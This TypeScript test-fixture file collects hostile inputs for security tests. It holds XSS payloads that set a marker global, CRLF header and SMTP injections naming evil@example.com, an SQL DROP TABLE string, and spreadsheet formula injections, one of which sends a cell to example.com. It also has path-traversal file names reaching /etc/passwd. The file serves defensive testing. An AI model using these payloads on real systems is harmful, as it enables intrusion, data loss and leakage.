/**
 * Texts that a person or a provider may well send, each made to break out of one place. `xssGlobal` is what a
 * payload sets when it runs, so that a browser test asks one question: `window.__pomboXss` is undefined.
 */
export const xssGlobal = '__pomboXss'

/** What a payload runs: names itself, so that a failing test says which text got through. */
const run = (name: string) => `window.${xssGlobal}='${name}'`

/** Markup and scripts, by the place they try to leave: text, attribute, script, address, style, JSON in HTML. */
export const xssTexts: Record<string, string> = {
  scriptElement: `<script>${run('scriptElement')}</script>`,
  imageError: `<img src=x onerror="${run('imageError')}">`,
  imageErrorBare: `<img/src/onerror=${run('imageErrorBare')}>`,
  svgLoad: `<svg onload="${run('svgLoad')}"></svg>`,
  svgScript: `<svg><script>${run('svgScript')}</script></svg>`,
  detailsToggle: `<details open ontoggle="${run('detailsToggle')}">x</details>`,
  iframeSource: `<iframe srcdoc="<script>parent.${xssGlobal}='iframeSource'</script>"></iframe>`,
  inputFocus: `<input autofocus onfocus="${run('inputFocus')}">`,
  styleAnimation: `<style>@keyframes p{}</style><b style="animation:p 1s" onanimationstart="${run('styleAnimation')}">x</b>`,
  mathLink: `<math><mtext><table><mglyph><style><img src onerror="${run('mathLink')}"></style></mglyph></table></mtext></math>`,
  doubleQuoted: `"><img src=x onerror="${run('doubleQuoted')}">`,
  singleQuoted: `'><img src=x onerror='${run('singleQuoted').replaceAll("'", '&#39;')}'>`,
  attributeEvent: `" autofocus onfocus="${run('attributeEvent')}" x="`,
  closesTitle: `</title><script>${run('closesTitle')}</script>`,
  closesTextarea: `</textarea><script>${run('closesTextarea')}</script>`,
  closesScript: `</script><script>${run('closesScript')}</script>`,
  closesComment: `--><script>${run('closesComment')}</script><!--`,
  scriptString: `';${run('scriptString')};//`,
  templateLiteral: `\${${run('templateLiteral')}}`,
  expression: `{{constructor.constructor("${run('expression')}")()}}`,
  address: `javascript:${run('address')}`,
  addressWithTab: `java\tscript:${run('addressWithTab')}`,
  addressWithControl: `\u0001javascript:${run('addressWithControl')}`,
  dataAddress: `data:text/html,<script>parent.${xssGlobal}='dataAddress'</script>`,
  encodedOnce: `&lt;img src=x onerror=${run('encodedOnce')}&gt;`,
  lineSeparator: `\u2028;${run('lineSeparator')}\u2029`,
  styleAddress: `background:url("javascript:${run('styleAddress')}")`,
}

/** End the header, the field or the line that they stand in. */
export const lineBreakTexts: Record<string, string> = {
  crlf: 'x\r\nX-Injected: yes',
  lf: 'x\nX-Injected: yes',
  cr: 'x\rX-Injected: yes',
  crlfBody: 'x\r\n\r\n<script>1</script>',
  nextLine: 'x\u0085X-Injected: yes',
  lineSeparator: 'x\u2028X-Injected: yes',
  verticalTab: 'x\vX-Injected: yes',
  smtpEnd: 'x\r\n.\r\nMAIL FROM:<evil@example.com>',
  bccRecipient: 'x\r\nBcc: evil@example.com',
}

/** Texts that break what counts, compares, cuts, sorts or stores them. */
export const strangeTexts: Record<string, string> = {
  nul: 'a\u0000b',
  loneHighSurrogate: 'a\ud800b',
  loneLowSurrogate: 'a\udc00b',
  swappedSurrogates: '\udc00\ud800',
  rightToLeft: '\u202egnp.exe',
  zeroWidth: 'a\u200b\u200d\ufeffb',
  combining: `Z${'\u0351\u0324'.repeat(40)}`,
  family: '👨‍👩‍👧‍👦'.repeat(8),
  noncharacter: 'a\uffff\ufffeb',
  privateUse: '\u{10ffff}',
  turkishI: 'İıİı',
  sharpS: 'ẞßſ',
  fullWidth: '\uff1cscript\uff1e',
  bell: '\u0007\u001b[31mred\u001b[0m',
  percent: '%s%n%d%00%0d%0a',
  backslashes: '\\x00\\u0000\\r\\n',
  quotes: `'"\`´‘’“”`,
  sql: `'); DROP TABLE messages; --`,
  like: '%_%\\_',
  copyEnd: '\\.',
  spreadsheet: '=HYPERLINK("http://example.com?"&A1,"x")',
  spreadsheetPlus: '+1+cmd|"/c calc"!A0',
  spreadsheetAt: '@SUM(1+1)*cmd|"/c calc"!A0',
  variables: '@Name @@Name @1 @Joker1 @__proto__ @constructor',
  proto: '__proto__',
  constructorName: 'constructor',
  undefinedText: 'undefined',
  nullText: 'null',
  empty: '',
  spaces: ' \t\u00a0\u3000 ',
  long: 'x'.repeat(5_000),
  longWord: 'ä'.repeat(300),
}

/** Names of files that leave their folder, their header, or their type. */
export const hostileFileNames: Record<string, string> = {
  parent: '../../../../etc/passwd.png',
  parentBackslash: '..\\..\\windows\\win.png',
  absolute: '/etc/passwd.png',
  drive: 'C:\\autoexec.png',
  encoded: '%2e%2e%2f%2e%2e%2fetc%2fpasswd.png',
  nulByte: 'harmless.png\u0000.html',
  crlf: 'x.png"\r\nContent-Type: text/html\r\n\r\n<script>1</script>.png',
  quote: 'a";filename="evil.html";x=".png',
  semicolon: 'a;b=c.png',
  rightToLeft: 'photo\u202egnp.exe.png',
  onlyDots: '....png',
  device: 'CON.png',
  htmlType: 'page.html',
  svgType: 'picture.svg',
  unicode: 'relatório ção 報告.png',
  long: `${'n'.repeat(250)}.png`,
}

/** All texts of this file under one name each, for a test that puts every one of them somewhere. */
export const hostileTexts: Record<string, string> = Object.fromEntries(
  Object.entries({
    xss: xssTexts,
    lines: lineBreakTexts,
    strange: strangeTexts,
    files: hostileFileNames,
  }).flatMap(([group, texts]) => Object.entries(texts).map(([name, text]) => [`${group}.${name}`, text])),
)

/** Those that PostgreSQL's text and a well-formed JSON document can hold, so that an API may take and show them again. */
export const storableTexts: Record<string, string> = Object.fromEntries(
  Object.entries(hostileTexts).filter(
    ([, text]) => text.trim() !== '' && !text.includes('\u0000') && text.isWellFormed(),
  ),
)
